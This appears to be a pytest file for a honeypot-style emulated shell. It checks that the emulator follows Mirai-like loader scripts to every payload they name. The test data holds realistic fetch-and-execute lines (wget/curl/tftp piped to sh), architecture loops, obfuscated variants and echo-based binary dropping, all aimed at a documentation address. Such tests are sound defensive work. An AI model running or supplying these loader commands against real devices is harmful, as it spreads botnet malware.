# SPDX-License-Identifier: Apache-2.0
# ruff: noqa: E501 - scripts stand as loaders write them
"""Scripts in the manner of real loaders, followed to the last body that they name."""

from __future__ import annotations

import base64
import gzip
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from mead.shell import Decoded, Effect, Executed, FileWritten, Limit, Offer, Shell, default_personas

PERSONAS = {persona.name: persona for persona in default_personas()}
HOST = "http://192.0.2.1"
ELF = b"\x7fELF" + bytes(60)


class Web:
    """Bodies by URL; what is not there cannot be had."""

    def __init__(self, bodies: dict[str, str | bytes]) -> None:
        self.bodies = {url: body.encode() if isinstance(body, str) else body for url, body in bodies.items()}
        self.effects: list[Effect] = []
        self.urls: list[str] = []

    def follow(self, shell: Shell, line: str | bytes) -> list[str]:
        """Run a line, deliver what it asks for, and what that asks for; all offers in their order."""
        self._take(shell.run(line.encode() if isinstance(line, str) else line).effects)
        asked: set[str] = set()
        while waiting := [url for url in self.urls if url not in asked]:
            for url in waiting:
                asked.add(url)
                self._take(shell.deliver(url, self.bodies.get(url)).effects)
        self._take(shell.close().effects)
        return self.urls

    def _take(self, effects: tuple[Effect, ...]) -> None:
        self.effects += effects
        self.urls += [effect.url for effect in effects if isinstance(effect, Offer)]

    def of(self, kind: type) -> Iterator[Effect]:
        """Effects of one kind."""
        return (effect for effect in self.effects if isinstance(effect, kind))


def device(name: str = "camera-armv7l") -> Shell:
    return Shell(PERSONAS[name], now=lambda: datetime(2026, 1, 1, tzinfo=UTC))


ARCHITECTURES = ("arm", "arm5", "arm6", "arm7", "mips", "mpsl", "x86", "ppc", "sh4", "m68k", "spc")
EACH = [f"{HOST}/bins/{name}" for name in ARCHITECTURES]
LIST = " ".join(ARCHITECTURES)
LOOP = f"""#!/bin/sh
# one for each
binarys="{LIST}"
server_ip="192.0.2.1"
for arch in $binarys
do
  cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
  rm -rf $arch
  wget http://$server_ip/bins/$arch -O $arch || curl -O http://$server_ip/bins/$arch || tftp $server_ip -c get $arch
  chmod 777 $arch
  ./$arch ssh.selfrep
  rm -rf $arch
done
"""
WRITTEN_OUT = "".join(
    f"cd /tmp; wget {HOST}/bins/{name}; chmod +x {name}; ./{name} x; rm -rf {name}\n"
    for name in ARCHITECTURES
)
FUNCTION = f"""
get() {{ wget -q "$1" -O- 2>/dev/null || curl -s "$1"; }}
U={HOST}; P=/bins
for a in {LIST}; do
  get "${{U}}${{P}}/$a" > .x && chmod +x .x && ./.x "$a" &
done
wait
"""
EVALUATED = f"""
cd /tmp
h="192.0"; h="$h.2.1"; q='wget ht'
eval "$q"'tp://'$h/bins/{{1}} 2>/dev/null
set -- {LIST}
while [ $# -gt 0 ]; do
  eval "$q""tp://$h/bins/$1 -O - > $1"; sh ./$1; shift
done
"""
NUMBERED = """
i=0
while [ $i -lt 5 ]; do i=$((i+1)); wget http://192.0.2.1/n$i; done
case `uname -m` in *arm*) wget http://192.0.2.1/for-arm;; *) wget http://192.0.2.1/for-others;; esac
"""


@pytest.mark.parametrize(
    "script", [LOOP, WRITTEN_OUT, FUNCTION, LOOP.replace("\n", "\r\n"), WRITTEN_OUT.replace("\n", "\r\n")],
    ids=["loop", "written out", "function", "loop with CRLF", "written out with CRLF"],
)  # fmt: skip
@pytest.mark.parametrize(
    "line",
    [
        f"wget -q -O- {HOST}/s|sh",
        f"curl -s {HOST}/s -o /tmp/s; chmod 777 /tmp/s; /tmp/s",
        f"cd /tmp; wget {HOST}/s; sh s; rm -f s",
        f'sh -c "$(wget -q -O- {HOST}/s)"',
        f"busybox wget {HOST}/s -O - | ash &",
        f"cd /tmp && (wget {HOST}/s || curl -O {HOST}/s) && chmod +x s && nohup ./s >/dev/null 2>&1 &",
        f". /dev/stdin <<E\n`wget -qO- {HOST}/s`\nE",
    ],
)  # fmt: skip
def test_every_body_that_a_fetched_script_names_is_offered(script: str, line: str) -> None:
    web = Web({f"{HOST}/s": script, **dict.fromkeys(EACH, ELF)})
    urls = web.follow(device(), line)
    assert urls[0] == f"{HOST}/s"
    assert {url for url in urls if "/bins/" in url} == set(EACH)
    assert not list(web.of(Limit))


@pytest.mark.parametrize("name", sorted(PERSONAS))
def test_every_device_follows_alike(name: str) -> None:
    web = Web({f"{HOST}/s": LOOP, **dict.fromkeys(EACH, ELF)})
    assert set(web.follow(device(name), f"wget -q -O- {HOST}/s | sh")) == {f"{HOST}/s", *EACH}


@pytest.mark.parametrize("name", ["camera-armv7l", "router-mips", "server-x86_64"])
def test_names_may_be_made_of_pieces(name: str) -> None:
    web = Web({f"{HOST}/s": EVALUATED, f"{HOST}/t": NUMBERED})
    urls = web.follow(device(name), f"wget {HOST}/s -O- | sh; curl {HOST}/t | sh")
    assert set(EACH) <= set(urls)
    assert {f"{HOST}/n{number}" for number in range(1, 6)} <= set(urls)
    assert f"{HOST}/for-{'arm' if name.startswith('camera') else 'others'}" in urls


def test_what_is_tried_when_a_download_fails_is_tried_then() -> None:
    web = Web({f"{HOST}/s": LOOP})
    urls = web.follow(device(), f"wget {HOST}/s -O- | sh")
    for name in ARCHITECTURES:
        assert urls.count(f"{HOST}/bins/{name}") == 2  # wget, then curl
        assert f"tftp://192.0.2.1/{name}" in urls


def test_a_chain_of_scripts_is_followed_as_deep_as_is_allowed() -> None:
    chain = {f"{HOST}/{depth}": f"wget {HOST}/{depth + 1} -O- | sh\n" for depth in range(20)}
    web = Web(chain)
    urls = web.follow(device(), f"wget {HOST}/0 -O- | sh")
    assert 5 <= len(urls) < 10
    assert [effect.name for effect in web.of(Limit) if isinstance(effect, Limit)] == ["follow_depth"]


@pytest.mark.parametrize(
    "script",
    [
        f"wget -O- {HOST}/s | sh\n",
        f"wget {HOST}/s; sh s\n",
        f"while :; do wget -q {HOST}/s -O x; sh x; done\n",
        f"for a in 1 2 3 4 5 6 7 8 9; do curl {HOST}/s?$a | sh & done\n",
    ],
)
def test_a_script_that_fetches_itself_comes_to_an_end(script: str) -> None:
    web = Web({f"{HOST}/s": script, **{f"{HOST}/s?{number}": script for number in range(10)}})
    urls = web.follow(device(), f"wget -O- {HOST}/s | sh")
    assert len(urls) < 600
    assert set(urls) <= set(web.bodies)


@pytest.mark.parametrize(
    ("line", "body"),
    [
        (f"wget -O- {HOST}/s | gunzip | sh", gzip.compress(LOOP.encode())),
        (f"wget -O- {HOST}/s | gzip -d | sh", gzip.compress(LOOP.encode())),
        (f"curl -s {HOST}/s | base64 -d | sh", base64.b64encode(LOOP.encode())),
        (f"curl -s {HOST}/s | base64 -d | zcat | sh", base64.b64encode(gzip.compress(LOOP.encode()))),
        (f"cd /tmp; wget {HOST}/s -O s.gz; gunzip s.gz; sh s", gzip.compress(LOOP.encode())),
        (f"wget -O- {HOST}/s | tr A-Za-z N-ZA-Mn-za-m | sh", LOOP.translate(str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm")).encode()),
        (f"wget -O- {HOST}/s | xxd -r -p | sh", LOOP.encode().hex().encode()),
        (f"wget -O- {HOST}/s | sed 's/@/a/g' | sh", LOOP.replace("a", "@").encode()),
    ],
)  # fmt: skip
def test_a_script_in_wrapping_is_unwrapped(line: str, body: bytes) -> None:
    web = Web({f"{HOST}/s": body, **dict.fromkeys(EACH, ELF)})
    assert set(EACH) <= set(web.follow(device(), line))


def test_each_layer_of_a_line_comes_off() -> None:
    inner = gzip.compress(f"wget {HOST}/in -O- | sh".encode(), mtime=0)
    web = Web({})
    assert web.follow(device(), b"echo " + base64.b64encode(inner) + b" | base64 -d | gunzip | sh") == [
        f"{HOST}/in"
    ]
    assert [effect.layer for effect in web.of(Decoded) if isinstance(effect, Decoded)] == ["base64", "gzip"]


def _echoed(body: bytes, how: str, size: int = 64) -> Iterator[bytes]:
    for at in range(0, len(body), size):
        digits = "".join(f"\\x{byte:02x}" for byte in body[at : at + size])
        octal = "".join(f"\\{byte:03o}" for byte in body[at : at + size])
        into = ">" if at == 0 else ">>"
        yield {
            "echo": f'echo -ne "{digits}" {into} .n',
            "busybox": f"/bin/busybox echo -en '{digits}' {into} .n && /bin/busybox echo -en '\\x45\\x43\\x48\\x4f'",
            "printf": f"printf '{octal}' {into} .n",
            "cat": f"echo -ne '{digits}' | cat {into} .n",
            "dd": f"echo -ne '{digits}' | dd of=.n bs=1 seek={at} conv=notrunc 2>/dev/null",
        }[how].encode()


@pytest.mark.parametrize("how", ["echo", "busybox", "printf", "cat", "dd"])
@pytest.mark.parametrize("name", ["camera-armv7l", "router-mips", "server-x86_64"])
def test_a_body_typed_in_five_hundred_lines_is_exact(name: str, how: str) -> None:
    body = (b"\x7fELF\x01\x01\x01" + bytes(range(256)) * 126)[: 500 * 64 - 5]
    shell = device(name)
    shell.run(b"cd /tmp; rm -f .n")
    effects: list[Effect] = []
    for line in _echoed(body, how):
        reply = shell.run(line)
        assert reply.status == 0
        effects += reply.effects
    effects += shell.run(b"chmod 777 .n; ./.n telnet.loader; rm -f .n").effects
    (run,) = (effect for effect in effects if isinstance(effect, Executed))
    assert run.data == body
    assert body in [effect.data for effect in effects if isinstance(effect, FileWritten)]
